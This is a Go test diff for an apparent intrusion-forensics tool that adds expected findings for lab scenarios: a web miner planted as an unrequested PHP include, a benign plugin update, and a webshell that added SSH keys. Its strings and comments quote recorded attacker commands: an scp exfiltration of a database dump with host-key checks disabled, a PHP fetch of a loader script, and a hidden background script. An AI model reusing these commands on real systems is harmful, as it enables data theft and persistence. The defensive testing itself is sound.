@@ -75,6 +75,22 @@ func TestLabClaims(t *testing.T) {
 				// recorded sshd → sh → run-parts chain) is no detached job
 				"a detached job's process runs a command (inferred",
 				"/var/tmp/.nk — used by `scp -q -i /var/tmp/.nk -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null /var/tmp/.n.sql labremote@127.0.0.1:drop/news-db.sql` by scp[12937] at 18:23:14 UTC; no record shows"}},
+		{"shop-miner",
+			[]string{
+				// footer-9c41d7.php (written by php-fpm[4064] at
+				// 21:42:36.979) is never requested; GET /products.php's
+				// worker then ran nohup setsid sh /var/tmp/.ICE-unix/.wd.sh
+				"placed as persistence: never requested by its own URL, it ran for another page's request",
+				"to which cache/views/footer-9c41d7.php was added and never requested by its own URL (a page includes it)",
+				// php -r copy("http://127.0.0.1:8000/ldr.sh", …) fetched
+				// the installer: the connect is the download's
+				`"title":"Download By Web Server Process"`},
+			[]string{`"title":"Reverse Shell Connection From Web Server Process","severity":"high","stage":7,"stage_id":"command-and-control","attack":["T1059.004","T1095"],"description":"A shell, interpreter or socket relay acting for the web server connects out`}},
+		{"benign-news",
+			// the plugin update's unzip writes schema.php, which no one
+			// requests: a page running unzip later is the update again
+			nil,
+			[]string{"was added and never requested by its own URL (a page includes it)"}},
 		{"webshell-variant",
 			[]string{`"kind":"key","what":"/home/webapp/.ssh/authorized_keys","detail":"written by dash[21588] at 14:01:17 UTC: remove the keys the intruder added"`},
 			[]string{"key the intruder made or used", "file     /home/webapp/.ssh/authorized_keys"}},
